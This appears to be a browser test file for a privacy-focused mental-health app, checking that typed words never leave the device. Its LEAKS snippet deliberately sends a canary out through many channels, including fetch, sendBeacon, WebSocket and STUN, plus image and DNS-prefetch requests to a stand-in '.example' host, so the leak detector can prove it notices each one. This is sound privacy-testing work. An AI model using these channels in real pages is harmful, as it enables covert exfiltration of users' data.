"""Nothing that a person types leaves the phone, or lies on it anywhere but in its one database.

A canary is typed into every field of the app, in one browser, and looked for in every byte that
was sent, in the browser's own notes of its network, and in every file of its profile.
"""

from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.browser.backup_page import everything
from tests.browser.canary import STEM, Canaries
from tests.browser.canary_walk import Walk, take
from tests.browser.conftest import NewContext
from tests.browser.html_tree import read_page
from tests.browser.lock import lock_button, turn_on, unlock
from tests.browser.lookout import looked_after, words_of
from tests.browser.service_worker import wait_for_service_worker
from tests.browser.watch import Watch

OWN_WORDS = {
    "Draft": {"values"},
    "HopeItem": {"link", "title", "words"},
    "MoodEntry": {"feelings", "helped", "note", "triggers"},
    "OwnCard": {"steps", "title"},
    "OwnWord": {"id", "word"},
    "PlanContact": {"name", "note", "number"},
    "Prepared": {"words"},
    "SafetyPlan": {
        "alone",
        "people",
        "places",
        "professionals",
        "reasons",
        "safer",
        "warning_signs",
    },
}
"""Where on the phone a person's own words lie."""


TYPES = ("text", "search", "tel", "url", "email", "password")


def fields_of(dist: Path, routes: list[str]) -> set[str]:
    """Every field for words that the pages are built with, as canaries are noted."""
    return {
        f"{route}#{field.attributes['id']}"
        for route in routes
        for name in ("input", "textarea")
        for field in read_page(dist, route).find_all(name)
        if name == "textarea" or field.attributes.get("type", "text") in TYPES
    }


def test_what_is_typed_anywhere_in_the_app_stays_in_its_one_database(
    new_context: NewContext, site: str, dist: Path, routes: list[str], tmp_path: Path
) -> None:
    with looked_after(new_context, site, dist, tmp_path) as phone:
        walk = Walk(phone.page, tmp_path)
        take(walk, routes)
        assert fields_of(dist, routes) - set(walk.canaries.typed.values()) == set()
        assert words_of(everything(phone.page)) == OWN_WORDS
        assert phone.outside(walk.canaries) == {}
        assert {urlsplit(url).path for url, _title in phone.history()} >= set(routes)


def test_with_the_lock_on_no_file_of_the_browser_holds_what_was_typed(
    new_context: NewContext, site: str, dist: Path, tmp_path: Path
) -> None:
    with looked_after(new_context, site, dist, tmp_path) as phone:
        passcode = f"{STEM} is my passcode"
        turn_on(phone.page, passcode)
        wait_for_service_worker(phone.page)
        lock_button(phone.page).click()
        unlock(phone.page, passcode)
        expect(lock_button(phone.page)).to_be_visible()
        walk = Walk(phone.page, tmp_path)
        for route in ("/log/", "/plan/edit/", "/plan/contact/", "/cards/mine/edit/", "/hope/note/"):
            walk.keep(route)
        walk.leave_in_the_middle()
        walk.open("/log/history/")
        expect(phone.page.locator("li.entry")).to_contain_text(STEM)
        assert phone.outside(walk.canaries, may_hold=()) == {}


LEAKS = """async (stem) => {
  const sent = [
    fetch("/about/?words=" + stem),
    fetch("/about/", { method: "POST", body: stem }),
  ].map((answer) => answer.catch(() => undefined));
  navigator.sendBeacon("/about/", stem);
  const elsewhere = new Image();
  elsewhere.src = `https://${stem}.example/`;
  const socket = new WebSocket(`ws://${location.host}/${stem}`);
  await new Promise((resolve) => { socket.onerror = resolve; });
  const link = document.createElement("link");
  Object.assign(link, { rel: "dns-prefetch", href: `https://${stem}.example` });
  document.head.append(link);
  document.title = stem;
  document.cookie = `words=${stem}`;
  localStorage.words = stem;
  await (await caches.open("words")).put("/words", new Response(stem));
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stem}.example` }] });
  peer.createDataChannel(stem);
  await peer.setLocalDescription();
  await new Promise((resolve) => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve();
  });
  await Promise.all(sent);
  history.replaceState(null, "", "?words=" + stem);
  const out = document.createElement("a");
  out.href = "web+words:" + stem;
  document.body.append(out);
}"""
"""Tells of a word in every way that a page has."""


def test_each_way_out_of_the_phone_would_be_noticed(
    new_context: NewContext, site: str, dist: Path, tmp_path: Path, watch: Watch
) -> None:
    watch.allow("request that sends something|another site|websocket|WebSocket|405|policy|Policy")
    with looked_after(new_context, site, dist, tmp_path) as phone:
        phone.page.goto("/about/")
        phone.page.evaluate(LEAKS, STEM)
        found = phone.outside(Canaries())
    assert set(found) == {
        "addresses and titles",
        "links",
        "caches",
        "web storage",
        "cookies",
        "requests",
        "bytes sent",
        "network log",
        "other methods",
        "other addresses",
        "history",
        "files",
    }
